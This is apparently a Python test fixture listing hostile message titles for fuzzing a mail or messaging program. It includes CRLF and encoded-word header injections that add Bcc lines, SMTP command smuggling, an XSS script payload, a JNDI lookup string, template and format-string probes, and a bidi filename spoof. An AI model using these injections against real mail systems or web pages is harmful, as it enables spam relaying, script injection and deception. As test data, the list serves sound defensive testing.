"""Titles that have broken other programs: each row is a name and the title."""

TITLES = {
    # line breaks of every kind, each with a header that somebody would like to add
    "crlf_bcc": "News\r\nBcc: thief@example.org",
    "lf_bcc": "News\nBcc: thief@example.org",
    "cr_bcc": "News\rBcc: thief@example.org",
    "blank_line": "News\r\n\r\n<b>a body of my own</b>",
    "vt_ff": "News\x0bBcc: a@b.example\x0cBcc: c@d.example",
    "nel": "News\x85Bcc: thief@example.org",
    "line_separator": "News\u2028Bcc: thief@example.org\u2029end",
    "fs_gs_rs": "News\x1cBcc: a@b.example\x1dx\x1ey",
    # encoded words: decoded by readers, and once by Python itself into a real header
    "encoded_word_q": "=?utf-8?q?Acme=0D=0ABcc:_x?=",
    "encoded_word_b": "=?utf-8?b?QWNtZQ0KQmNjOiB4?=",
    "encoded_word_half": "=?utf-8?q?never closed",
    "encoded_word_odd_charset": "=?no-such-charset?q?x?= and more",
    # SMTP: dots, smuggled ends of data, commands
    "lone_dot": ".",
    "dots": "..\r\n.\r\n..",
    "smuggle_crlf": "x\r\n.\r\nMAIL FROM:<thief@example.org>\r\nRCPT TO:<you@example.org>",
    "smuggle_lf": "x\n.\nQUIT",
    "smuggle_mixed": "x\n.\r\ny\r.\r\nz\r\n.\nMAIL FROM:<thief@example.org>",
    # letters that encoders stumble over
    "lone_surrogate": "half \ud83d a pair",
    "nul": "a\x00b",
    "esc": "\x1b[31mred\x1b[0m",
    "long": "word " * 2_000,
    "long_word": "w" * 5_000,
    "long_arabic": "قاعدة حميميم الجوية " * 200,
    "emoji_family": "👩‍👩‍👧‍👦" * 40,
    "astral": "𝕶𝖍𝖒𝖊𝖎𝖒𝖎𝖒",
    "combining": "e" + "\u0301" * 500,
    "bidi_override": "abc\u202egpj.exe",
    # markup of other channels
    "slack_everyone": "<!channel> <@U123> <https://evil.example|bank> & more",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "template": "{{ 7*191 }} ${jndi:ldap://x} %s %n {0}",
    "empty": "",
    "spaces": "   \t  ",
}
